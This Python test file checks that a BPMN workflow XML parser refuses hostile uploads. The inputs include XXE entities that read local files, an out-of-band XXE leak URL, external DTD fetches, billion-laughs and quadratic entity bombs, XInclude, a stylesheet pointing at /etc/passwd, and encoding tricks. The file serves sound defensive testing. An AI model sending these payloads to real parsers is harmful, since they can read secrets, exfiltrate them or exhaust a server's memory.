"""Uploads that try to make the XML parser read files, reach the network or expand without bound.

Each attack is tried twice: through ``parse_xml`` as a whole, and with its textual pre-check
switched off, so that the lxml parser configuration and the tree checks are shown to hold on their
own (defence in depth, not defence by one regular expression).
"""

from __future__ import annotations

import os
import resource
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from workflow import xmlsafe
from workflow.errors import InvalidSpec, UnsafeXml
from workflow.xmlsafe import parse_xml

BPMN_DIR = Path(__file__).resolve().parents[1] / "bpmn"
DEFINITIONS = (
    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" '
    'targetNamespace="http://bpmn.io/schema/bpmn">{body}</bpmn:definitions>'
)
LOL = "".join(
    ['<!ENTITY lol0 "lollollollollollollollollollol">']
    + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
)
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE lolz [{LOL}]><lolz a="&lol9;">&lol9;</lolz>'
QUADRATIC = f'<!DOCTYPE kaboom [<!ENTITY a "{"a" * 50_000}">]><kaboom>{"&a;" * 50_000}</kaboom>'


@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    marker = f"SHANYU-SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "secret.txt"
    path.write_text(marker)
    return path, marker


@pytest.fixture(params=["whole", "parser only"])
def parse(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Callable[..., object]:
    if request.param == "parser only":
        monkeypatch.setattr(xmlsafe, "_refuse_declarations", lambda text, filename: None)
    return parse_xml


def refused(parse: Callable[..., object], document: str | bytes, *secrets: str) -> UnsafeXml:
    with pytest.raises(UnsafeXml) as caught:
        result = parse(document, filename="attack.bpmn")
        pytest.fail(f"parsed: {result!r}")
    exc = caught.value
    assert "attack.bpmn" in exc.message
    for marker in secrets:
        assert marker not in str(exc)
        assert marker not in repr(exc.to_dict())
    return exc


def test_xxe_reading_a_local_file_is_refused_and_the_secret_never_appears(
    parse: Callable[..., object], secret: tuple[Path, str]
) -> None:
    path, marker = secret
    body = '<bpmn:process id="P"><bpmn:documentation>&x;</bpmn:documentation></bpmn:process>'
    document = f'<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file://{path}">]>' + DEFINITIONS.format(
        body=body
    )
    refused(parse, document, marker)


def test_parameter_entity_xxe_is_refused(parse: Callable[..., object], secret: tuple[Path, str]) -> None:
    path, marker = secret
    document = f'<!DOCTYPE d [<!ENTITY % p SYSTEM "file://{path}"> %p;]>' + DEFINITIONS.format(body="")
    refused(parse, document, marker)


def test_out_of_band_xxe_via_parameter_entities_is_refused(
    parse: Callable[..., object], secret: tuple[Path, str]
) -> None:
    path, marker = secret
    document = (
        f'<!DOCTYPE d [<!ENTITY % file SYSTEM "file://{path}">'
        "<!ENTITY % send \"<!ENTITY leak SYSTEM 'http://127.0.0.1:9/?%file;'>\"> %send;]>"
        + DEFINITIONS.format(body="&leak;")
    )
    refused(parse, document, marker)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def test_external_dtd_over_the_network_is_refused_without_connecting(
    parse: Callable[..., object], listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    document = f'<!DOCTYPE x SYSTEM "http://127.0.0.1:{port}/x.dtd">' + DEFINITIONS.format(body="")
    refused(parse, document)
    with pytest.raises(BlockingIOError):  # nobody connected
        listener.accept()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_external_dtd_file_is_never_opened(parse: Callable[..., object], tmp_path: Path) -> None:
    # A writer blocks on opening a named pipe until somebody opens it for reading: if the parser
    # ever opened the DTD, the writer would get through and say so.
    fifo = tmp_path / "x.dtd"
    os.mkfifo(fifo)
    opened = threading.Event()

    def writer() -> None:
        with open(fifo, "wb") as pipe:
            opened.set()
            pipe.write(b'<!ENTITY injected "from the DTD">')

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    document = f'<!DOCTYPE x SYSTEM "file://{fifo}">' + DEFINITIONS.format(body="")
    refused(parse, document)
    time.sleep(0.05)
    assert not opened.is_set()
    fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # release the writer; shows the detector works
    thread.join(timeout=5)
    os.close(fd)
    assert opened.is_set()


def test_billion_laughs_is_refused_quickly_and_small(parse: Callable[..., object]) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    refused(parse, BILLION_LAUGHS)
    assert time.perf_counter() - started < 1.0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 50 * 1024  # expanded, it would be gigabytes


def test_quadratic_blowup_is_refused_quickly_and_small(parse: Callable[..., object]) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    refused(parse, QUADRATIC)
    assert time.perf_counter() - started < 1.0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 50 * 1024  # expanded, it would be 2.5 GB


def test_xinclude_of_a_local_file_is_refused(parse: Callable[..., object], secret: tuple[Path, str]) -> None:
    path, marker = secret
    body = (
        '<bpmn:documentation xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="file://{path}" parse="text"/></bpmn:documentation>'
    )
    exc = refused(parse, DEFINITIONS.format(body=body), marker)
    assert exc.details["found"] == "XInclude"


def test_a_doctype_alone_is_refused(parse: Callable[..., object]) -> None:
    document = "<!DOCTYPE bpmn:definitions>\n" + DEFINITIONS.format(body="")
    exc = refused(parse, document)
    assert exc.details["found"] == "DOCTYPE"


def test_an_entity_reference_without_declaration_is_refused(parse: Callable[..., object]) -> None:
    refused(parse, DEFINITIONS.format(body="&nbsp;"))


def test_a_stylesheet_processing_instruction_is_refused(parse: Callable[..., object]) -> None:
    document = '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>' + DEFINITIONS.format(body="")
    exc = refused(parse, document)
    assert exc.details["found"] == "xml-stylesheet"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_encoded_attack_is_refused(
    parse: Callable[..., object], secret: tuple[Path, str], codec: str
) -> None:
    path, marker = secret
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}">]>' + DEFINITIONS.format(body="&x;")
    )
    refused(parse, text.encode(codec), marker)


def test_utf8_bom_attack_is_refused(parse: Callable[..., object]) -> None:
    refused(parse, b"\xef\xbb\xbf" + BILLION_LAUGHS.encode())


def test_an_encoding_declaration_cannot_hide_a_doctype(parse: Callable[..., object]) -> None:
    # "+ADw-" is "<" in UTF-7: the bytes are read as the declaration says, then checked.
    document = (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-' + DEFINITIONS.format(body="").encode()
    )
    refused(parse, document)


def test_an_oversized_upload_is_refused_before_parsing() -> None:
    document = DEFINITIONS.format(body="<bpmn:documentation>" + "x" * 2_000 + "</bpmn:documentation>")
    for data in (document, document.encode()):
        with pytest.raises(UnsafeXml) as caught:
            parse_xml(data, filename="big.bpmn", max_bytes=1_000)
        assert caught.value.details["found"] == "oversized upload"
    assert parse_xml(document, filename="big.bpmn", max_bytes=10_000) is not None


def test_malformed_xml_is_invalid_with_line_and_column() -> None:
    document = DEFINITIONS.format(body="\n<bpmn:process id='P'>\n</bpmn:definitions>")
    with pytest.raises(InvalidSpec) as caught:
        parse_xml(document, filename="broken.bpmn")
    assert not isinstance(caught.value, UnsafeXml)
    assert caught.value.details["line"] == 3
    assert "broken.bpmn, line 3, column" in caught.value.message


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_clean_bpmn_parses(codec: str) -> None:
    text = (BPMN_DIR / "specs_simple.bpmn").read_text(encoding="utf-8")
    if codec == "utf-16":
        text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    root = parse_xml(text.encode(codec), filename="specs_simple.bpmn")
    assert root.tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    lanes = root.findall(".//{http://www.omg.org/spec/BPMN/20100524/MODEL}lane")
    assert [lane.get("name") for lane in lanes] == ["区有关部门", "市有关部门"]
    assert root.getroottree().docinfo.doctype == ""
